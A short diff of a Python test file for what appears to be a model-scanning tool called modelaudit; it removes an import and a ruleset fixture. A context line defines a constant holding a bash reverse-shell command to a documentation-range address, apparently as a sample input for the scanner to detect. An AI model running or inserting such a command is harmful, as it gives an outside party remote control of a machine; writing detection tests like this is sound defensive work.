@@ -7,15 +7,9 @@ import random
 import pytest
 
 from modelaudit.engine.facts import Arg, Call, Text
-from modelaudit.engine.packs.load import load_ruleset
 from modelaudit.pipeline.scan import scan
 
 SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
-
-
-@pytest.fixture(scope="module")
-def ruleset():
-    return load_ruleset(cache=False)
 
 
 def keys(ruleset, text, role):
